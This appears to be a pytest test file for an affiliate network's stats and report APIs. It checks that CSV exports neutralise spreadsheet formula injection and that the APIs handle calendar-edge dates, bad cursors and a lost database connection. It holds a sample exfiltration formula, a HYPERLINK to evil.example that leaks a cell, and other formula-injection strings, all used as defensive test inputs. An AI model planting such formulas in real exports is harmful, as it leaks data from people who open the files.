"""The stats API and the report API against hostile input: dates
at the ends of the calendar, visitor-controlled sub values that a
spreadsheet would run as formulas, and a database connection that is gone."""

import base64
import csv
import io
from datetime import datetime
from urllib.parse import quote

import pytest

from affnet.core.network import api_tokens
from affnet.testing import click, click_id_of, ingest, sale_body

STATS = "/api/affiliate/stats-api"
REPORT = "/api/affiliate/report"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")'


@pytest.fixture
def token(affnet_network):
    return api_tokens.create_token(affnet_network.affiliate, "Keitaro")[1]


@pytest.fixture
def hostile_subs(affnet_app, affnet_client, affnet_network, affnet_clock, token):
    """A sale and its refund (payout -8.70) from a click whose sub values a
    visitor wrote: each starts with a character that makes a spreadsheet
    cell a formula."""
    affnet_clock.set(datetime(2026, 6, 1, 9))
    subs = {
        "s1": FORMULA,
        "s2": "+1+1",
        "s3": "-2+3",
        "s4": "@SUM(1,2)",
        "s5": "\t=1+1",
        "s6": "\r=1+1",
        "s7": "-1.00",
        "s8": "-Id_like-click_id",
        "s9": "plain",
        "s10": "-A1,B1",
    }
    query = {name: quote(value, safe="") for name, value in subs.items()}
    clicked = click_id_of(click(affnet_app.test_client(), affnet_network.ref, **query))
    affnet_clock.set(datetime(2026, 6, 1, 10))
    assert ingest(affnet_client, affnet_network, "conversion", sale_body(clicked)).status_code == 201
    affnet_clock.set(datetime(2026, 6, 1, 11))
    assert ingest(affnet_client, affnet_network, "refund", {"external_payment_id": "pi_123"}).status_code == 201
    return token


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200, response.get_data(as_text=True)
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


SAFE_SUBS = {
    "sub1": "'" + FORMULA,
    "sub2": "'+1+1",
    "sub3": "'-2+3",
    "sub4": "'@SUM(1,2)",
    "sub5": "'\t=1+1",
    "sub6": "'\r=1+1",
    "sub7": "-1.00",
    "sub8": "-Id_like-click_id",
    "sub9": "plain",
    "sub10": "'-A1,B1",
}


def test_stats_csv_writes_formula_like_text_as_text_and_numbers_and_ids_as_they_are(affnet_client, hostile_subs):
    rows = csv_rows(affnet_client.get(STATS, query_string={"token": hostile_subs, "format": "csv"}))
    assert [{name: row[name] for name in SAFE_SUBS} for row in rows] == [SAFE_SUBS, SAFE_SUBS]
    assert [row["payout"] for row in rows] == ["8.70", "-8.70"], "a negative payout stays a number"


def test_stats_csv_keeps_a_click_id_that_starts_with_a_dash(affnet_client, affnet_network, token, monkeypatch):
    from affnet.core.clicks import tracking

    monkeypatch.setattr(tracking, "new_click_id", lambda: "-Xy_0123456789abcdef")
    clicked = click_id_of(click(affnet_client, affnet_network.ref))
    assert clicked == "-Xy_0123456789abcdef"
    assert ingest(affnet_client, affnet_network, "conversion", sale_body(clicked)).status_code == 201
    (row,) = csv_rows(affnet_client.get(STATS, query_string={"token": token, "format": "csv"}))
    assert (row["click_id"], row["clickid"]) == (clicked, clicked)


def test_stats_json_keeps_the_values_as_they_came(affnet_client, hostile_subs):
    rows = affnet_client.get(STATS, query_string={"token": hostile_subs, "format": "json"}).get_json()
    assert rows[0]["sub1"] == FORMULA and rows[0]["sub5"] == "\t=1+1"


@pytest.mark.parametrize("sub", ["sub1", "sub3", "sub5"])
def test_report_csv_grouped_by_a_sub_writes_formula_like_text_as_text(affnet_client, hostile_subs, sub):
    response = affnet_client.get(
        REPORT, query_string={"token": hostile_subs, "group_by": sub, "from": "2026-06-01", "to": "2026-06-01"}
    )
    rows = csv_rows(response)
    assert rows[0][sub] == SAFE_SUBS[sub] and rows[-1][sub] == "total"
    assert rows[0]["commission_USD"] == "0.00"


@pytest.mark.parametrize(
    "query",
    [
        {"to": "9999-12-31"},
        {"from": "9999-12-31"},
        {"from": "0001-01-01"},
        {"from": "0001-01-01T00:00:00+01:00"},
        {"to": "0001-01-01T00:00:00+01:00"},
        {"to": "9999-12-31T23:00:00-05:00"},
        {"from": "9999-12-31T23:00:00-05:00"},
    ],
)
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_stats_dates_at_the_ends_of_the_calendar_are_clamped_never_a_500(affnet_client, hostile_subs, query, fmt):
    response = affnet_client.get(STATS, query_string={"token": hostile_subs, "format": fmt, **query})
    assert response.status_code == 200, response.get_data(as_text=True)
    everything = query.get("to", "9999").startswith("9999") and query.get("from", "0001").startswith("0001")
    rows = csv_rows(response) if fmt == "csv" else response.get_json()
    assert len(rows) == (2 if everything else 0)


@pytest.mark.parametrize(
    "query, field",
    [
        ({"from": "9999-12-30", "to": "9999-12-31"}, "to"),
        ({"from": "0001-01-01", "to": "0001-01-02", "tz": "Asia/Tokyo"}, "from"),
        ({"from": "9999-12-31", "to": "9999-12-31", "tz": "Pacific/Kiritimati"}, "to"),
    ],
)
def test_report_dates_beyond_what_a_zone_can_hold_answer_422_json_naming_the_field(affnet_client, token, query, field):
    response = affnet_client.get(REPORT, query_string={"token": token, "format": "json", **query})
    assert response.status_code == 422 and response.is_json, response.get_data(as_text=True)
    assert list(response.get_json()["fields"]) == [field]


def test_report_on_the_first_and_last_days_a_zone_can_hold_is_answered(affnet_client, token):
    for query in (
        {"from": "0001-01-02", "to": "0001-01-03", "tz": "Asia/Tokyo"},
        {"from": "9999-12-29", "to": "9999-12-30"},
        {"from": "9999-12-30", "to": "9999-12-30", "tz": "America/New_York"},
    ):
        response = affnet_client.get(REPORT, query_string={"token": token, "format": "json", **query})
        assert response.status_code == 200, response.get_data(as_text=True)


@pytest.mark.parametrize("moment", ["0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59.999999", "0001-01-01T00:00:00"])
def test_a_cursor_at_the_ends_of_the_calendar_is_answered_never_a_500(affnet_client, hostile_subs, moment):
    cursor = base64.urlsafe_b64encode(f"{moment}|tx_x".encode()).decode().rstrip("=")
    response = affnet_client.get(STATS, query_string={"token": hostile_subs, "after": cursor, "format": "json"})
    assert response.status_code in (200, 422), response.get_data(as_text=True)


@pytest.mark.parametrize("failure", ["peewee", "psycopg2"])
def test_a_flask_route_that_meets_a_closed_connection_answers_503_json(affnet_client, token, monkeypatch, failure):
    import peewee
    import psycopg2

    from affnet.core.storage.db import db

    error = peewee.InterfaceError if failure == "peewee" else psycopg2.InterfaceError

    def closed(*args, **kwargs):
        raise error("connection already closed")

    monkeypatch.setattr(db.obj, "execute_sql", closed)
    response = affnet_client.get(STATS, query_string={"token": token})
    assert response.status_code == 503 and response.is_json, response.get_data(as_text=True)
    assert response.get_json()["error"].startswith("the database is unavailable")


@pytest.mark.parametrize(
    "method, path, status",
    [
        ("POST", STATS, 405),
        ("DELETE", REPORT, 405),
        ("PUT", "/api/openapi.json", 405),
        ("GET", "/api/affiliate/nothing", 404),
        ("GET", "/hooks/nothing/here", 404),
    ],
)
def test_a_wrong_method_or_path_under_the_api_answers_the_json_error_body(affnet_client, method, path, status):
    response = affnet_client.open(path, method=method)
    assert response.status_code == status and response.mimetype == "application/json"
    assert set(response.get_json()) == {"error", "fields"} and response.get_json()["error"]
    if status == 405:
        assert "GET" in response.headers["Allow"]


def test_a_missing_page_is_still_a_page(affnet_client):
    response = affnet_client.get("/no-such-page")
    assert response.status_code == 404 and response.mimetype == "text/html"
